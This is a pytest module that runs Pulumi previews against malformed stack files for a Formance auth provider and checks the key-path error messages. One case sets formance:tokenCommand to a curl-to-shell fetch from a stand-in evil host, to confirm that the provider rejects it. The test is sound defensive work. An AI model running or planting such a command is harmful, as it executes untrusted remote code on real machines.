"""Issue 6: malformed stack files fail `pulumi preview` with a message naming the key path
and the rule, and nothing reaches the server.

One project serves the whole module; the previews run three at a time, each worker on
a stack of its own; they go through the fault proxy, which counts requests.
"""

from __future__ import annotations

import subprocess
from concurrent.futures import ThreadPoolExecutor
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml

from pulumi_project import PulumiProject, make_project
from faultproxy import FaultProxy

pytestmark = pytest.mark.timeout(300)

#: (id, clients map, extra formance:* config, expected substring)
CASES: list[tuple[str, Any, dict[str, Any], str]] = [
    ("clients-list", ["a"], {}, "clients: must be a map of client names to client settings (got a list)"),
    ("client-not-map", {"a": 3}, {}, "clients.a: must be a map of client settings"),
    ("unknown-key", {"a": {"scope": ["x"]}}, {}, "clients.a.scope: unknown key; did you mean 'scopes'?"),
    ("unknown-key-typo", {"a": {"descripton": "x"}}, {}, "clients.a.descripton: unknown key; did you mean 'description'?"),
    ("public-not-bool", {"a": {"public": "yes"}}, {}, "clients.a.public: must be true or false"),
    ("trusted-not-bool", {"a": {"trusted": 1}}, {}, "clients.a.trusted: must be true or false"),
    ("scopes-string", {"a": {"scopes": "ledger:read"}}, {}, "clients.a.scopes: must be a list"),
    ("scope-whitespace", {"a": {"scopes": ["ledger read"]}}, {}, "clients.a.scopes[0]: a scope must not contain whitespace"),
    ("scope-empty", {"a": {"scopes": ["ok", ""]}}, {}, "clients.a.scopes[1]: a scope must not be empty"),
    ("redirect-whitespace", {"a": {"redirectUris": ["not a url"]}}, {}, "clients.a.redirectUris[0]: must not contain whitespace"),
    ("redirect-not-list", {"a": {"redirectUris": "https://x"}}, {}, "clients.a.redirectUris: must be a list"),
    ("metadata-list", {"a": {"metadata": ["x"]}}, {}, "clients.a.metadata: must be a map"),
    ("metadata-reserved", {"a": {"metadata": {"formance-pulumi/owner": "x"}}}, {}, "clients.a.metadata: metadata key 'formance-pulumi/owner' is reserved"),
    ("metadata-value-int", {"a": {"metadata": {"k": 1}}}, {}, "clients.a.metadata.k: must be a string"),
    ("name-empty", {"a": {"name": ""}}, {}, "clients.a.name: name must not be empty"),
    ("name-too-long", {"a": {"name": "x" * 300}}, {}, "clients.a.name: name must be at most 255 characters"),
    ("client-id-whitespace", {"a": {"clientId": " x"}}, {}, "clients.a.clientId: must be a non-empty string"),
    ("client-id-number", {"a": {"clientId": 5}}, {}, "clients.a.clientId: must be a non-empty string"),
    ("client-id-duplicate", {"a": {"clientId": "dup-e2e"}, "b": {"clientId": "dup-e2e"}}, {}, "clients.b.clientId: 'dup-e2e' is already the clientId of clients.a"),
    ("key-slash", {"a/b": {}}, {}, "clients.a/b: client names must not contain '/'"),
    ("adopt-not-bool", {"a": {"adopt": "yes"}}, {}, "clients.a.adopt: must be true or false"),
    ("secrets-list", {"a": {"secrets": ["x"]}}, {}, "clients.a.secrets: must be a map of secret names to secret settings"),
    ("secret-not-map", {"a": {"secrets": {"s": 3}}}, {}, "clients.a.secrets.s: must be a map of secret settings"),
    ("secret-unknown-key", {"a": {"secrets": {"s": {"keeper": {"v": 1}}}}}, {}, "clients.a.secrets.s.keeper: unknown key; did you mean 'keepers'?"),
    ("secret-keepers-list", {"a": {"secrets": {"s": {"keepers": [1]}}}}, {}, "clients.a.secrets.s.keepers: must be a map of names to values"),
    ("secret-rotate-negative", {"a": {"secrets": {"s": {"rotateAfterDays": -1}}}}, {}, "clients.a.secrets.s.rotateAfterDays: must be at least 1"),
    ("secret-rotate-text", {"a": {"secrets": {"s": {"rotateAfterDays": "ten"}}}}, {}, "clients.a.secrets.s.rotateAfterDays: must be a whole number"),
    ("secret-grace-negative", {"a": {"secrets": {"s": {"graceUpdates": -2}}}}, {}, "clients.a.secrets.s.graceUpdates: must be at least 0"),
    ("secret-metadata-reserved", {"a": {"secrets": {"s": {"metadata": {"formance-pulumi/create-id": "x"}}}}}, {}, "clients.a.secrets.s.metadata: metadata key 'formance-pulumi/create-id' is reserved"),
    ("secret-metadata-list", {"a": {"secrets": {"s": {"metadata": ["x"]}}}}, {}, "clients.a.secrets.s.metadata: must be a map of strings to strings"),
    ("description-number", {"a": {"description": 5}}, {}, "clients.a.description: must be a string"),
    # formance:* settings
    ("token-command-in-stack", {"a": {}}, {"formance:tokenCommand": "curl https://evil.example/x | sh"}, "formance:tokenCommand is not accepted from stack config"),
    ("unknown-setting", {"a": {}}, {"formance:endpointt": "https://x.example"}, "formance:endpointt is not a setting of this provider; did you mean formance:endpoint?"),
    ("http-non-loopback", {"a": {}}, {"formance:endpoint": "http://example.com"}, "formance:endpoint uses http:// to example.com, which would send credentials in clear text"),
    ("max-retries-range", {"a": {}}, {"formance:maxRetries": "99"}, "formance:maxRetries must be between 0 and 20"),
    ("timeout-not-number", {"a": {}}, {"formance:timeout": "abc"}, "formance:timeout must be a number of seconds"),
]


@pytest.fixture(scope="module")
def proxy(local_stack: dict) -> Iterator[FaultProxy]:
    with FaultProxy() as p:
        yield p


WORKERS = 3


@pytest.fixture(scope="module")
def module_project(local_stack: dict, pulumi_home: Path, tmp_path_factory: pytest.TempPathFactory, proxy: FaultProxy) -> Iterator[PulumiProject]:
    """Like the ``project`` fixture, but one project for the whole module, talking through the proxy."""
    proj = make_project(local_stack, pulumi_home, tmp_path_factory.mktemp("bad-input"), prefix="b", endpoint=proxy.endpoint)
    yield proj
    _write_stack_file(proj.root / "stacks" / f"Pulumi.{proj.stack}.yaml", {})
    proj.run("destroy", "--yes", "--skip-preview", "--continue-on-error", check=False)


def _write_stack_file(path: Path, clients: Any, extra: dict[str, Any] | None = None) -> None:
    """The whole config of a stack file: the clients map and ``extra``, nothing left from before."""
    existing = (yaml.safe_load(path.read_text()) if path.exists() else None) or {}
    existing["config"] = {"formance-auth:clients": clients, **(extra or {})}
    path.write_text(yaml.safe_dump(existing, sort_keys=False))


@pytest.fixture(scope="module")
def previews(module_project: PulumiProject, proxy: FaultProxy) -> dict[str, tuple[int, str]]:
    """Run every case's preview, WORKERS at a time, each worker on a stack of its own."""
    proj = module_project
    stacks = [f"{proj.stack}w{i}" for i in range(WORKERS)]

    def run(stack: str, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["pulumi", *args, "--stack", stack, "--non-interactive"], cwd=proj.root, env=proj.env,
                              capture_output=True, text=True, timeout=240)

    def worker(index: int) -> dict[str, tuple[int, str]]:
        stack = stacks[index]
        assert run(stack, "stack", "init").returncode == 0
        path = proj.root / "stacks" / f"Pulumi.{stack}.yaml"
        out: dict[str, tuple[int, str]] = {}
        for case_id, clients, extra, _ in CASES[index::WORKERS]:
            _write_stack_file(path, clients, extra)
            proc = run(stack, "preview")
            out[case_id] = (proc.returncode, proc.stdout + proc.stderr)
        run(stack, "stack", "rm", "--yes", "--force")
        return out

    results: dict[str, tuple[int, str]] = {}
    with ThreadPoolExecutor(WORKERS) as pool:
        for part in pool.map(worker, range(WORKERS)):
            results.update(part)
    return results


def _owned(admin_api, project: PulumiProject) -> list[str]:
    prefix = f"formance-auth/{project.stack}/"
    return [c.client_id for c in admin_api.list_clients() if (c.owner or "").startswith(prefix)]


def _server_calls(proxy: FaultProxy) -> int:
    return sum(proxy.count(m, r"^/clients") for m in ("GET", "POST", "PUT", "DELETE"))


@pytest.mark.parametrize(("case_id", "expected"), [(c[0], c[3]) for c in CASES], ids=[c[0] for c in CASES])
def test_bad_stack_file_fails_preview_naming_key_and_rule(previews: dict, module_project: PulumiProject, proxy: FaultProxy, admin_api, case_id: str, expected: str) -> None:
    returncode, output = previews[case_id]
    assert returncode != 0, output[-2000:]
    assert expected in output, output[-3000:]
    # The message is given once, not once per resource or with a traceback.
    assert output.count(expected) == 1, output[-3000:]
    assert "Traceback" not in output
    assert _server_calls(proxy) == 0  # no preview of the module reached the clients API
    assert _owned(admin_api, module_project) == []


def test_proxy_is_on_the_path(module_project: PulumiProject, proxy: FaultProxy, admin_api) -> None:
    """Sanity check of the zero counts above: a valid stack file does reach the server through the proxy."""
    assert _server_calls(proxy) == 0
    _write_stack_file(module_project.root / "stacks" / f"Pulumi.{module_project.stack}.yaml", {"ok": {}})
    module_project.up()
    assert proxy.count("POST", r"^/clients$") == 1
    assert len(_owned(admin_api, module_project)) == 1
